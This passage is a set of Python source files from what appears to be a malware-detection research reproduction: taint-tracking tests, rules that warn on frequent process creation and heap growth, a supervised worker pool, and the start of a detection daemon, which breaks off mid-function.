        report, shadow, proc, hth = run_and_get_shadow(source, setup=setup)
        addr = proc.image_map.app.symbol_addr("buf")
        assert Tag(DataSource.FILE, "/tmp/data") in shadow.memory.get(addr)

    def test_stdin_read_tags_user_input(self):
        source = """
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 8
    call read
    mov eax, 0
    ret
.data
buf: .space 8
"""
        report, shadow, proc, hth = run_and_get_shadow(
            source, stdin="abcd\n"
        )
        addr = proc.image_map.app.symbol_addr("buf")
        assert shadow.memory.get(addr).has_source(DataSource.USER_INPUT)

    def test_syscall_result_untainted(self):
        source = """
main:
    call getpid
    mov edi, cell
    store [edi], eax
    mov eax, 0
    ret
.data
cell: .space 1
"""
        report, shadow, proc, hth = run_and_get_shadow(source)
        addr = proc.image_map.app.symbol_addr("cell")
        assert shadow.memory.get(addr).is_empty()


class TestIncompleteMode:
    def test_console_input_tagged_binary_in_compat_mode(self):
        from repro.harrier.config import HarrierConfig

        source = """
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 8
    call read
    mov eax, 0
    ret
.data
buf: .space 8
"""
        hth = HTH(harrier_config=HarrierConfig(complete_dataflow=False))
        proc = None
        original_spawn = hth.kernel.spawn

        def capture(*a, **k):
            nonlocal proc
            proc = original_spawn(*a, **k)
            return proc

        hth.kernel.spawn = capture
        hth.run(assemble("/usr/bin/pico", source), stdin="typed\n")
        shadow = hth.harrier.shadow(proc)
        addr = proc.image_map.app.symbol_addr("buf")
        tags = shadow.memory.get(addr)
        assert Tag(DataSource.BINARY, "/usr/bin/pico") in tags
        assert not tags.has_source(DataSource.USER_INPUT)
