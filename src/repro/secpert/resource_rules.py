"""Resource-abuse rules (paper section 4.2 + section 10 item 4).

Four productions:

* ``check_clone_count`` — the *number* of processes created is high -> Low
  ("Found several SYS_clone calls / This call was frequent");
* ``check_clone_rate`` — the *rate* of creation is high -> Medium
  ("This call was very frequent in a short period of time");
* ``check_memory_usage`` / ``check_memory_abuse`` — heap growth past the
  policy thresholds -> Low / Medium (the future-work memory-abuse rules;
  Trojan.Vundo's virtual-memory drain is the motivating example).
"""

from __future__ import annotations

from typing import List

from repro.expert.conditions import Pattern, Test, V
from repro.expert.engine import Rule, RuleContext
from repro.secpert.policy import PolicyConfig
from repro.secpert.warnings import SecurityWarning, Severity, WarningSink


def build_resource_rules(policy: PolicyConfig) -> List[Rule]:
    def count_high(bindings) -> bool:
        return bindings["total"] > policy.process_count_threshold

    def rate_high(bindings) -> bool:
        return bindings["recent"] > policy.process_rate_threshold

    def warn_count(ctx: RuleContext) -> None:
        sink: WarningSink = ctx.context["warn"]
        sink.add(
            SecurityWarning(
                severity=Severity.LOW,
                rule="check_clone_count",
                headline="Found several SYS_clone calls",
                details=("This call was frequent",),
                pid=ctx["pid"],
                time=ctx["time"],
            )
        )

    def warn_rate(ctx: RuleContext) -> None:
        sink: WarningSink = ctx.context["warn"]
        sink.add(
            SecurityWarning(
                severity=Severity.MEDIUM,
                rule="check_clone_rate",
                headline="Found several SYS_clone calls",
                details=(
                    "This call was very frequent in a short period of time",
                ),
                pid=ctx["pid"],
                time=ctx["time"],
            )
        )

    count_rule = Rule(
        name="check_clone_count",
        doc="Many processes created in total",
        lhs=[
            Pattern(
                "process_created",
                total=V("total"),
                time=V("time"),
                pid=V("pid"),
            ),
            Test(count_high),
        ],
        action=warn_count,
    )
    rate_rule = Rule(
        name="check_clone_rate",
        doc="Processes created at a high rate",
        salience=1,  # the stronger signal is reported first
        lhs=[
            Pattern(
                "process_created",
                recent=V("recent"),
                time=V("time"),
                pid=V("pid"),
            ),
            Test(rate_high),
        ],
        action=warn_rate,
    )

    def memory_low(bindings) -> bool:
        return (
            policy.memory_low_threshold
            < bindings["total"] <= policy.memory_high_threshold
        )

    def memory_high(bindings) -> bool:
        return bindings["total"] > policy.memory_high_threshold

    def warn_memory(severity, detail):
        def action(ctx: RuleContext) -> None:
            sink: WarningSink = ctx.context["warn"]
            sink.add(
                SecurityWarning(
                    severity=severity,
                    rule=(
                        "check_memory_usage"
                        if severity is Severity.LOW
                        else "check_memory_abuse"
                    ),
                    headline="Found unusually large memory allocation",
                    details=(
                        detail,
                        f"total heap cells allocated: {ctx['total']}",
                    ),
                    pid=ctx["pid"],
                    time=ctx["time"],
                )
            )

        return action

    memory_low_rule = Rule(
        name="check_memory_usage",
        doc="Heap growth past the low threshold (future work item 4)",
        lhs=[
            Pattern(
                "memory_usage",
                total_allocated=V("total"),
                time=V("time"),
                pid=V("pid"),
            ),
            Test(memory_low),
        ],
        action=warn_memory(
            Severity.LOW, "This program is consuming a lot of memory"
        ),
    )
    memory_high_rule = Rule(
        name="check_memory_abuse",
        doc="Heap growth past the abuse threshold (future work item 4)",
        salience=1,
        lhs=[
            Pattern(
                "memory_usage",
                total_allocated=V("total"),
                time=V("time"),
                pid=V("pid"),
            ),
            Test(memory_high),
        ],
        action=warn_memory(
            Severity.MEDIUM,
            "This program may be draining OS memory to degrade performance",
        ),
    )
    return [count_rule, rate_rule, memory_low_rule, memory_high_rule]
