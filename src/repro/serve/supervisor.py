"""The worker supervisor: dispatch, health-check, contain, restart.

The serve daemon's execution layer is a pool of warm worker *processes*
(:func:`repro.serve.worker.serve_worker_main`).  Processes, not threads,
for the same reason the fleet uses them — a guest run that wedges the
interpreter or a monitor bug that corrupts state must be killable
without taking the daemon down.  The supervisor owns the pool and turns
process-level failure into protocol-level answers:

* **dispatch** — one job per worker at a time; new work is only accepted
  when a worker is idle (the *bounded* admission queue upstream holds
  everything else).
* **health checks** — a monitor thread watches process liveness and
  per-job deadlines; a worker that blows its submission's deadline is
  killed outright (the guest's virtual-time budget normally ends runs
  long before this — a blown wall deadline means the machine, not the
  guest, is stuck).
* **containment** — a crashed or killed worker's in-flight job is either
  retried on another attempt (crashes are transient machine faults, the
  same reasoning as the fleet's watchdog retries) or answered with a
  synthesized terminal ``error`` event.  Never silently dropped.
* **self-healing** — dead workers are respawned with exponential
  backoff (``restart_backoff`` doubling up to ``restart_backoff_max``);
  a worker that keeps dying parks progressively longer, shrinking pool
  capacity gracefully instead of crash-looping.  A successful job
  resets the backoff.

Retry backoff is deterministic: the delay is derived from the job id
and attempt number (crc32 jitter over an exponential base), so a chaos
run replays with the same schedule.

Threading model: a *pump* thread drains the shared result queue and a
*monitor* thread enforces deadlines/liveness/restarts; both serialize
on one lock.  Event callbacks (``on_event``, ``on_idle``) fire from
these threads — the asyncio server bridges them with
``call_soon_threadsafe``.
"""

from __future__ import annotations

import itertools
import multiprocessing
import queue as queue_mod
import threading
import time
import zlib
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

from repro.serve.worker import serve_worker_main

#: Default per-submission wall deadline, seconds.
DEFAULT_JOB_TIMEOUT = 60.0
#: Base/ceiling of the exponential worker-restart backoff, seconds.
DEFAULT_RESTART_BACKOFF = 0.1
DEFAULT_RESTART_BACKOFF_MAX = 5.0
#: Base of the deterministic job-retry backoff, seconds.
DEFAULT_RETRY_BACKOFF = 0.05

STATE_STARTING = "starting"
STATE_IDLE = "idle"
STATE_BUSY = "busy"
STATE_RESTARTING = "restarting"
STATE_STOPPED = "stopped"

#: Failure kinds a worker death is attributed to.
FAIL_CRASH = "worker-crash"
FAIL_TIMEOUT = "timeout"
FAIL_SHUTDOWN = "shutting-down"


def retry_delay(base: float, attempt: int, key: str) -> float:
    """Deterministic exponential backoff with keyed jitter.

    ``crc32(key:attempt)`` supplies a reproducible jitter fraction in
    [0, 1), so two runs of the same chaos schedule sleep identically.
    """
    frac = zlib.crc32(f"{key}:{attempt}".encode()) / 2.0 ** 32
    return base * (2.0 ** max(attempt - 1, 0)) * (1.0 + frac)


def _mp_context(name: Optional[str] = None):
    if name is not None:
        return multiprocessing.get_context(name)
    methods = multiprocessing.get_all_start_methods()
    return multiprocessing.get_context(
        "fork" if "fork" in methods else "spawn"
    )


@dataclass
class _Job:
    id: str
    spec: Dict[str, object]
    on_event: Callable[[Dict[str, object]], None]
    timeout: float
    max_retries: int
    stream: bool = True
    attempt: int = 0
    submitted_at: float = 0.0
    dispatched_at: float = 0.0
    retry_at: float = 0.0
    done: bool = False


@dataclass
class _Worker:
    wid: int
    proc: Optional[object] = None
    job_queue: Optional[object] = None
    state: str = STATE_STARTING
    job: Optional[_Job] = None
    busy_since: float = 0.0
    consecutive_failures: int = 0
    restart_at: float = 0.0
    jobs_done: int = 0
    restarts: int = 0


class Supervisor:
    """A supervised pool of serve workers (see module docstring)."""

    def __init__(
        self,
        workers: int = 2,
        job_timeout: float = DEFAULT_JOB_TIMEOUT,
        max_retries: int = 1,
        retry_backoff: float = DEFAULT_RETRY_BACKOFF,
        restart_backoff: float = DEFAULT_RESTART_BACKOFF,
        restart_backoff_max: float = DEFAULT_RESTART_BACKOFF_MAX,
        metrics=None,
        mp_start_method: Optional[str] = None,
        poll_interval: float = 0.02,
        on_idle: Optional[Callable[[], None]] = None,
    ) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        self.job_timeout = job_timeout
        self.max_retries = max_retries
        self.retry_backoff = retry_backoff
        self.restart_backoff = restart_backoff
        self.restart_backoff_max = restart_backoff_max
        self.poll_interval = poll_interval
        self.on_idle = on_idle
        self._metrics = metrics
        self._ctx = _mp_context(mp_start_method)
        self._result_queue = self._ctx.Queue()
        self._lock = threading.RLock()
        self._workers: Dict[int, _Worker] = {
            wid: _Worker(wid=wid) for wid in range(workers)
        }
        self._jobs: Dict[str, _Job] = {}
        self._retries: List[_Job] = []
        self._job_ids = itertools.count()
        self._stopping = threading.Event()
        self._pump_thread: Optional[threading.Thread] = None
        self._monitor_thread: Optional[threading.Thread] = None
        self.started = False

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        with self._lock:
            if self.started:
                return
            self.started = True
            for worker in self._workers.values():
                self._spawn(worker)
        self._pump_thread = threading.Thread(
            target=self._pump, name="serve-pump", daemon=True
        )
        self._monitor_thread = threading.Thread(
            target=self._monitor, name="serve-monitor", daemon=True
        )
        self._pump_thread.start()
        self._monitor_thread.start()

    def stop(self, join_timeout: float = 5.0) -> None:
        """Stop the pool.  In-flight jobs are answered with a terminal
        ``shutting-down`` error (drain first for a graceful exit)."""
        self._stopping.set()
        terminal: List[_Job] = []
        with self._lock:
            for worker in self._workers.values():
                if worker.job is not None and not worker.job.done:
                    terminal.append(worker.job)
                    worker.job = None
                if worker.job_queue is not None:
                    try:
                        worker.job_queue.put_nowait(None)
                    except Exception:
                        pass
            for job in self._retries:
                if not job.done:
                    terminal.append(job)
            self._retries.clear()
        for job in terminal:
            self._finish(job, {
                "kind": "error",
                "code": FAIL_SHUTDOWN,
                "error": "daemon shutting down before this job finished",
            })
        deadline = time.monotonic() + join_timeout
        for worker in self._workers.values():
            proc = worker.proc
            if proc is None:
                continue
            proc.join(timeout=max(0.0, deadline - time.monotonic()))
            if proc.is_alive():
                proc.terminate()
                proc.join(timeout=1.0)
            worker.state = STATE_STOPPED
        for thread in (self._pump_thread, self._monitor_thread):
            if thread is not None:
                thread.join(timeout=join_timeout)
        self._result_queue.close()
        self._sample_workers()

    # -- submission --------------------------------------------------------
    def next_job_id(self) -> str:
        return f"job-{next(self._job_ids)}"

    def try_submit(
        self,
        spec: Dict[str, object],
        on_event: Callable[[Dict[str, object]], None],
        timeout: Optional[float] = None,
        max_retries: Optional[int] = None,
        job_id: Optional[str] = None,
        stream: bool = True,
    ) -> Optional[str]:
        """Dispatch one job if a worker is idle; return its id or None.

        ``None`` means "no capacity right now" — the caller keeps the
        submission queued and waits for an idle signal.  Pending retries
        have priority over new work, so a retrying job is never starved
        by fresh traffic.
        """
        if self._stopping.is_set():
            return None
        with self._lock:
            now = time.monotonic()
            if any(j.retry_at <= now for j in self._retries):
                return None
            worker = self._idle_worker()
            if worker is None:
                return None
            job = _Job(
                id=job_id if job_id is not None else self.next_job_id(),
                spec=spec,
                on_event=on_event,
                timeout=timeout if timeout is not None else self.job_timeout,
                max_retries=(
                    max_retries if max_retries is not None
                    else self.max_retries
                ),
                stream=stream,
                submitted_at=now,
            )
            self._jobs[job.id] = job
            self._dispatch(worker, job)
            return job.id

    def in_flight(self) -> int:
        with self._lock:
            return len(self._jobs)

    def idle_workers(self) -> int:
        with self._lock:
            return sum(
                1 for w in self._workers.values() if w.state == STATE_IDLE
            )

    def live_workers(self) -> int:
        with self._lock:
            return sum(
                1 for w in self._workers.values()
                if w.proc is not None and w.proc.is_alive()
            )

    def kill_worker(self, wid: int) -> bool:
        """Hard-kill one worker process (the chaos monkey's lever).

        Containment and restart then run through the exact same monitor
        path as an organic crash.
        """
        with self._lock:
            worker = self._workers.get(wid)
            if worker is None or worker.proc is None:
                return False
            if not worker.proc.is_alive():
                return False
            worker.proc.kill()
            return True

    def busy_worker_ids(self) -> List[int]:
        with self._lock:
            return [
                w.wid for w in self._workers.values()
                if w.state == STATE_BUSY
            ]

    def generations(self) -> Dict[int, int]:
        """Per-slot process generation (1 + restarts): how many times
        each pool slot has (re)spawned its worker."""
        with self._lock:
            return {w.wid: 1 + w.restarts for w in self._workers.values()}

    def stats(self) -> Dict[str, object]:
        with self._lock:
            return {
                "workers": {
                    w.wid: {
                        "state": w.state,
                        "jobs_done": w.jobs_done,
                        "restarts": w.restarts,
                        "alive": bool(w.proc is not None
                                      and w.proc.is_alive()),
                    }
                    for w in self._workers.values()
                },
                "in_flight": len(self._jobs),
                "pending_retries": len(self._retries),
            }

    # -- internals ---------------------------------------------------------
    def _idle_worker(self) -> Optional[_Worker]:
        for worker in self._workers.values():
            if worker.state == STATE_IDLE:
                return worker
        return None

    def _spawn(self, worker: _Worker) -> None:
        worker.job_queue = self._ctx.Queue()
        worker.proc = self._ctx.Process(
            target=serve_worker_main,
            args=(worker.wid, worker.job_queue, self._result_queue),
            daemon=True,
        )
        worker.state = STATE_STARTING
        worker.job = None
        worker.proc.start()
        self._sample_workers()

    def _dispatch(self, worker: _Worker, job: _Job) -> None:
        job.attempt += 1
        job.dispatched_at = time.monotonic()
        worker.job = job
        worker.state = STATE_BUSY
        worker.busy_since = job.dispatched_at
        worker.job_queue.put({
            "id": job.id,
            "attempt": job.attempt,
            "spec": job.spec,
            "stream": job.stream,
        })
        self._sample_workers()

    def _sample_workers(self) -> None:
        if self._metrics is None:
            return
        active = sum(
            1 for w in self._workers.values()
            if w.state in (STATE_IDLE, STATE_BUSY, STATE_STARTING)
        )
        self._metrics.gauge("serve_active_workers").set(active)

    def _observe_latency(self, job: _Job) -> Dict[str, float]:
        now = time.monotonic()
        queue_wait = max(0.0, job.dispatched_at - job.submitted_at)
        exec_seconds = max(0.0, now - job.dispatched_at)
        total = max(0.0, now - job.submitted_at)
        if self._metrics is not None:
            self._metrics.histogram(
                "serve_latency_seconds", stage="queue"
            ).observe(queue_wait)
            self._metrics.histogram(
                "serve_latency_seconds", stage="exec"
            ).observe(exec_seconds)
            self._metrics.histogram(
                "serve_latency_seconds", stage="total"
            ).observe(total)
        return {
            "queue_wait": queue_wait,
            "exec": exec_seconds,
            "total": total,
            "attempts": job.attempt,
        }

    def _finish(self, job: _Job, event: Dict[str, object]) -> None:
        """Deliver a terminal event for ``job`` exactly once."""
        with self._lock:
            if job.done:
                return
            job.done = True
            self._jobs.pop(job.id, None)
            timing = self._observe_latency(job)
        event = dict(event)
        event["job"] = job.id
        event["timing"] = timing
        if self._metrics is not None:
            self._metrics.counter(
                "serve_jobs_completed_total", kind=str(event["kind"])
            ).inc()
        try:
            job.on_event(event)
        except Exception:
            pass

    def _absorb_report(self, report: object) -> None:
        """Fold one finished run's report counters into the daemon
        registry — per-run numbers live in the report itself; the pool's
        ``/metrics`` exposes the running totals across every run."""
        if self._metrics is None or not isinstance(report, dict):
            return
        self._metrics.counter("harrier_events_emitted_total").inc(
            float(report.get("event_count", 0) or 0)
        )
        self._metrics.counter("harrier_warnings_total").inc(
            float(len(report.get("warnings") or ()))
        )
        prov = report.get("provenance")
        if isinstance(prov, dict):
            for key, family in (
                ("sources", "provenance_sources_total"),
                ("waypoints", "provenance_waypoints_total"),
                ("evidence", "provenance_evidence_total"),
            ):
                self._metrics.counter(family).inc(
                    float(prov.get(key, 0) or 0)
                )

    def _absorb_engine(self, engine: object, wid: object) -> None:
        """Fold one run's match-cost snapshot (the worker Secpert's
        always-on :class:`~repro.expert.rete.MatchStats`) into the
        daemon-lifetime registry."""
        if self._metrics is None or not isinstance(engine, dict):
            return
        self._metrics.histogram("secpert_match_seconds").observe(
            float(engine.get("match_seconds", 0) or 0)
        )
        self._metrics.counter("secpert_alpha_activations_total").inc(
            float(engine.get("alpha_activations", 0) or 0)
        )
        worker = str(wid)
        self._metrics.gauge(
            "secpert_beta_tokens_live", worker=worker
        ).set(float(engine.get("beta_tokens_live", 0) or 0))
        self._metrics.gauge(
            "secpert_agenda_size", worker=worker
        ).set(float(engine.get("agenda_size", 0) or 0))

    def _forward(self, job: _Job, event: Dict[str, object]) -> None:
        try:
            job.on_event(event)
        except Exception:
            pass

    # -- pump thread -------------------------------------------------------
    def _pump(self) -> None:
        while not (self._stopping.is_set() and self._result_queue.empty()):
            try:
                msg = self._result_queue.get(timeout=self.poll_interval)
            except (queue_mod.Empty, OSError, ValueError):
                if self._stopping.is_set():
                    return
                continue
            self._handle_message(msg)

    def _handle_message(self, msg: Dict[str, object]) -> None:
        kind = msg.get("kind")
        wid = msg.get("worker")
        became_idle = False
        with self._lock:
            worker = self._workers.get(wid)
            if worker is None:
                return
            if kind == "ready":
                if worker.state != STATE_STOPPED:
                    worker.state = STATE_IDLE
                    worker.job = None
                    became_idle = True
                self._sample_workers()
            elif kind == "bye":
                worker.state = STATE_STOPPED
                self._sample_workers()
            elif kind in ("warning", "start", "result", "error"):
                job = self._jobs.get(msg.get("job"))
                if job is None or job.done:
                    return
                if msg.get("attempt") != job.attempt:
                    return  # stale message from a killed attempt
                if kind == "warning":
                    self._forward(job, {
                        "kind": "warning",
                        "job": job.id,
                        "seq": msg["seq"],
                        "warning": msg["warning"],
                    })
                    return
                if kind == "start":
                    return
                # result / error: terminal
                if worker.job is job:
                    worker.job = None
                    worker.consecutive_failures = 0
                    worker.jobs_done += 1
        if kind == "result":
            self._absorb_report(msg.get("report"))
            self._absorb_engine(msg.get("engine"), wid)
            self._finish(job, {
                "kind": "report",
                "report": msg["report"],
                "ok": msg.get("ok"),
                "cached": False,
                "worker": wid,
            })
        elif kind == "error":
            self._finish(job, {
                "kind": "error",
                "code": "run-error",
                "error": msg["error"],
                "worker": wid,
            })
        if became_idle and self.on_idle is not None:
            try:
                self.on_idle()
            except Exception:
                pass

    # -- monitor thread ----------------------------------------------------
    def _monitor(self) -> None:
        while not self._stopping.is_set():
            self._tick()
            time.sleep(self.poll_interval)

    def _tick(self) -> None:
        now = time.monotonic()
        failed: List[tuple] = []
        idle_signal = False
        with self._lock:
            for worker in self._workers.values():
                if worker.state in (STATE_STOPPED, STATE_RESTARTING):
                    if (
                        worker.state == STATE_RESTARTING
                        and now >= worker.restart_at
                        and not self._stopping.is_set()
                    ):
                        self._spawn(worker)
                    continue
                proc = worker.proc
                if proc is not None and not proc.is_alive():
                    failed.append((worker, FAIL_CRASH, proc.exitcode))
                    self._schedule_restart(worker, now)
                    continue
                if (
                    worker.state == STATE_BUSY
                    and worker.job is not None
                    and now - worker.busy_since > worker.job.timeout
                ):
                    # Deadline blown: the machine is stuck, not the
                    # guest (virtual budgets end guest runs).  Kill and
                    # recycle the worker; the job is handled below.
                    proc.kill()
                    failed.append((worker, FAIL_TIMEOUT, None))
                    self._schedule_restart(worker, now)
            # Re-dispatch ready retries onto idle workers.
            for job in list(self._retries):
                if job.retry_at > now or job.done:
                    continue
                worker = self._idle_worker()
                if worker is None:
                    break
                self._retries.remove(job)
                self._dispatch(worker, job)
            if not self._retries and self._idle_worker() is not None:
                idle_signal = True

        for worker, fail_kind, exitcode in failed:
            self._contain_failure(worker, fail_kind, exitcode)
        if idle_signal and self.on_idle is not None:
            try:
                self.on_idle()
            except Exception:
                pass

    def _schedule_restart(self, worker: _Worker, now: float) -> None:
        worker.consecutive_failures += 1
        worker.restarts += 1
        delay = min(
            self.restart_backoff
            * (2.0 ** (worker.consecutive_failures - 1)),
            self.restart_backoff_max,
        )
        worker.restart_at = now + delay
        worker.state = STATE_RESTARTING
        if self._metrics is not None:
            self._metrics.counter("serve_worker_restarts_total").inc()
        self._sample_workers()

    def _contain_failure(
        self, worker: _Worker, fail_kind: str, exitcode
    ) -> None:
        """Answer or retry the job a dead/killed worker was holding."""
        with self._lock:
            job = worker.job
            worker.job = None
            if job is None or job.done:
                return
            if job.attempt <= job.max_retries:
                job.retry_at = time.monotonic() + retry_delay(
                    self.retry_backoff, job.attempt, job.id
                )
                self._retries.append(job)
                if self._metrics is not None:
                    self._metrics.counter(
                        "serve_retries_total", reason=fail_kind
                    ).inc()
                retry_event = {
                    "kind": "retry",
                    "job": job.id,
                    "reason": fail_kind,
                    "attempt": job.attempt,
                }
                self._forward(job, retry_event)
                return
        detail = (
            f"worker {worker.wid} exceeded the {job.timeout:.1f}s deadline"
            if fail_kind == FAIL_TIMEOUT
            else f"worker {worker.wid} died (exit code {exitcode})"
        )
        self._finish(job, {
            "kind": "error",
            "code": fail_kind,
            "error": (
                f"{detail} after {job.attempt} attempt(s); "
                "synthesized MONITOR_FAULT record"
            ),
            "worker": worker.wid,
        })
