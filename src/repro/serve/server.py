"""The always-on detection daemon: asyncio front, supervised pool back.

``ServeDaemon`` listens on a unix socket (NDJSON, the native protocol)
and optionally on TCP speaking a minimal hand-rolled HTTP/1.1 (the
container has no third-party HTTP stack, and the protocol needs nothing
more than ``POST /submit`` with a chunked NDJSON body plus three GET
endpoints — ``/healthz``, ``/stats``, and an OpenMetrics ``/metrics``
exposition).  Each accepted submission flows::

    client -> admission precheck (draining + tenant rate, hits charged)
           -> cache key + triage (digest thread, off the event loop)
           -> verdict-cache hit?  -> replayed event stream (no slot)
           -> miss: admission slot (bounded queue, tick budget)
           -> pending deque -> supervisor dispatch (idle worker)
           -> worker process (warm Session, TapAnalyzer streaming)
           -> events bridged back thread->loop -> client stream

The ordering is deliberate: the per-tenant rate bucket is charged
*before* the daemon does any per-submission work — assembling an
untrusted inline source, digesting keys, triage — so a rate-limited
client cannot burn daemon CPU or memory, and replaying a cached
submission is still metered even though hits never claim a queue slot
or tick budget.  Assembly/digest/triage run on a dedicated single
thread (the daemon's ``EngineCache`` assemble memo is bounded, so
ever-varying sources cannot grow memory without bound), keeping the
event loop free to accept connections and serve scrapes.

Robustness invariants the tests hold:

* **bounded memory** — the admission controller caps submissions in the
  system; everything past the cap is answered ``rejected:queue-full``
  (HTTP 429) immediately.
* **no lost requests** — every admitted submission ends in exactly one
  terminal event (``report`` or ``error``), even if its worker is
  killed, wedges past its deadline, or the daemon is asked to shut
  down mid-run.
* **graceful shutdown** — :meth:`shutdown` first stops admitting
  (``rejected:shutting-down``), then drains in-flight work, then stops
  the pool.

The supervisor's callbacks fire on its pump/monitor threads; the bridge
into asyncio is ``loop.call_soon_threadsafe`` onto per-connection
queues — the only thread/loop touchpoint in the daemon.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections import deque
from concurrent.futures import ThreadPoolExecutor
from typing import Deque, Dict, Optional, Tuple

from repro.cache.digest import submission_key
from repro.cache.store import (
    VerdictCache,
    bypass_reason,
    cacheable_report_dict,
)
from repro.cache.triage import triage_image
from repro.core.engine import EngineCache
from repro.harrier.config import HarrierConfig
from repro.serve import admission as adm
from repro.serve.admission import AdmissionController
from repro.serve.protocol import (
    ProtocolError,
    Submission,
    TERMINAL_KINDS,
    accepted_event,
    decode_line,
    encode_event,
    rejected_event,
    triage_event,
)
from repro.serve.supervisor import (
    DEFAULT_JOB_TIMEOUT,
    Supervisor,
)
from repro.telemetry.metrics import MetricsRegistry, render_openmetrics

#: A submission line/body larger than this is rejected outright.
MAX_SUBMISSION_BYTES = 4 * 1024 * 1024

#: Bound on the daemon's assemble memo (distinct inline sources kept
#: warm for key/triage computation).  Past this, least-recently-seen
#: templates are dropped and simply re-assemble on next sight.
ASSEMBLE_MEMO_CAPACITY = 128

_REJECT_STATUS = {
    adm.REASON_QUEUE_FULL: (429, "Too Many Requests"),
    adm.REASON_RATE_LIMITED: (429, "Too Many Requests"),
    adm.REASON_TICK_BUDGET: (429, "Too Many Requests"),
    adm.REASON_SHUTTING_DOWN: (503, "Service Unavailable"),
    adm.REASON_INVALID: (400, "Bad Request"),
}


class _PendingJob:
    """One submission being answered: queued for a worker, or a cache
    hit whose events were synthesized without admission."""

    __slots__ = (
        "job_id", "spec", "queue", "timeout",
        "admitted", "cached", "cache_key", "warnings",
    )

    def __init__(
        self,
        job_id: str,
        spec: Optional[Dict[str, object]],
        queue: "asyncio.Queue",
        timeout: Optional[float],
        admitted: bool = True,
        cached: bool = False,
        cache_key: Optional[str] = None,
    ) -> None:
        self.job_id = job_id
        self.spec = spec
        self.queue = queue
        self.timeout = timeout
        #: Holds an admission slot (False for cache hits, which never
        #: consume queue depth or tick budget and must not release one;
        #: their tenant rate token was still charged at precheck).
        self.admitted = admitted
        self.cached = cached
        #: Set on cacheable misses: where to store the fresh result.
        self.cache_key = cache_key
        #: Streamed warning wire dicts accumulated for the store — these
        #: carry ``details`` the report-dict warnings do not, so a hit
        #: can replay the exact event stream.
        self.warnings: list = []


class ServeDaemon:
    """See module docstring.  Construct, ``await start()``, submit."""

    def __init__(
        self,
        unix_path: Optional[str] = None,
        host: Optional[str] = None,
        port: int = 0,
        workers: int = 2,
        queue_limit: int = 64,
        rate: Optional[float] = None,
        burst: Optional[float] = None,
        tick_rate: Optional[float] = None,
        tick_burst: Optional[float] = None,
        job_timeout: float = DEFAULT_JOB_TIMEOUT,
        max_retries: int = 1,
        metrics: Optional[MetricsRegistry] = None,
        mp_start_method: Optional[str] = None,
        cache: bool = True,
        cache_dir: Optional[str] = None,
        cache_entries: int = 512,
    ) -> None:
        if unix_path is None and host is None:
            raise ValueError("need a unix socket path and/or an HTTP host")
        self.unix_path = unix_path
        self.host = host
        self.port = port
        self.metrics = metrics if metrics is not None else MetricsRegistry()
        #: Daemon-side verdict cache: hits are answered in ``_admit``
        #: after the rate precheck but without a queue slot.  Stores
        #: wire-form reports plus the streamed warning events (plain
        #: data, hence the ``json`` codec — the daemon never unpickles
        #: cache bytes), keyed by submission content
        #: (``repro.cache.digest.submission_key``).
        self.cache = (
            VerdictCache(
                capacity=cache_entries,
                disk_dir=cache_dir,
                metrics=self.metrics,
                namespace="serve",
                codec="json",
            ) if cache else None
        )
        #: Warm assemble memo for key computation and triage profiling.
        #: Bounded: clients feeding ever-varying sources must not grow
        #: daemon memory (the templates are only a digest warm-up here —
        #: execution happens in worker processes with their own caches).
        self._engine = EngineCache(max_images=ASSEMBLE_MEMO_CAPACITY)
        #: All assembly/digest/triage of untrusted submissions happens
        #: on this one thread, never on the event loop.
        self._digester = ThreadPoolExecutor(
            max_workers=1, thread_name_prefix="serve-digest"
        )
        self.admission = AdmissionController(
            queue_limit=queue_limit,
            rate=rate,
            burst=burst,
            tick_rate=tick_rate,
            tick_burst=tick_burst,
            metrics=self.metrics,
        )
        self.supervisor = Supervisor(
            workers=workers,
            job_timeout=job_timeout,
            max_retries=max_retries,
            metrics=self.metrics,
            mp_start_method=mp_start_method,
            on_idle=self._on_worker_idle,
        )
        self._pending: Deque[_PendingJob] = deque()
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._servers = []
        self._closed = False
        self._started_at = time.monotonic()
        #: Whether worker runs record evidence trails by default (a
        #: submission can still opt out via ``options.provenance``).
        self.provenance_enabled = HarrierConfig().provenance

    # -- lifecycle ---------------------------------------------------------
    async def start(self) -> None:
        if self._servers:  # idempotent: run_daemon may follow a manual start
            return
        self._loop = asyncio.get_running_loop()
        self._started_at = time.monotonic()
        self._preregister_metrics()
        self.supervisor.start()
        if self.unix_path is not None:
            self._servers.append(await asyncio.start_unix_server(
                self._handle_ndjson, path=self.unix_path
            ))
        if self.host is not None:
            server = await asyncio.start_server(
                self._handle_http, host=self.host, port=self.port
            )
            self.port = server.sockets[0].getsockname()[1]
            self._servers.append(server)

    async def wait_ready(self, timeout: float = 30.0) -> None:
        """Block until at least one worker reported ready."""
        deadline = self._loop.time() + timeout
        while self.supervisor.idle_workers() == 0:
            if self._loop.time() > deadline:
                raise TimeoutError("no serve worker became ready")
            await asyncio.sleep(0.02)

    async def shutdown(self, drain: bool = True, timeout: float = 30.0) -> None:
        """Stop admitting, optionally drain in-flight work, stop the pool."""
        if self._closed:
            return
        self._closed = True
        self.admission.drain()
        if drain:
            deadline = self._loop.time() + timeout
            while (
                (self.supervisor.in_flight() or self._pending)
                and self._loop.time() < deadline
            ):
                await asyncio.sleep(0.05)
        for server in self._servers:
            server.close()
        for server in self._servers:
            try:
                await server.wait_closed()
            except Exception:
                pass
        await asyncio.get_running_loop().run_in_executor(
            None, self.supervisor.stop
        )
        self._digester.shutdown(wait=False)

    # -- dispatch ----------------------------------------------------------
    def _on_worker_idle(self) -> None:
        # Supervisor thread -> event loop.
        loop = self._loop
        if loop is not None and not self._closed:
            try:
                loop.call_soon_threadsafe(self._kick)
            except RuntimeError:
                pass  # loop already closed during teardown

    def _kick(self) -> None:
        """Dispatch queued submissions onto idle workers (FIFO)."""
        while self._pending:
            job = self._pending[0]
            accepted = self.supervisor.try_submit(
                job.spec,
                on_event=self._make_bridge(job.queue),
                timeout=job.timeout,
                job_id=job.job_id,
            )
            if accepted is None:
                return
            self._pending.popleft()

    def _make_bridge(self, queue: "asyncio.Queue"):
        loop = self._loop

        def on_event(event: Dict[str, object]) -> None:
            try:
                loop.call_soon_threadsafe(queue.put_nowait, event)
            except RuntimeError:
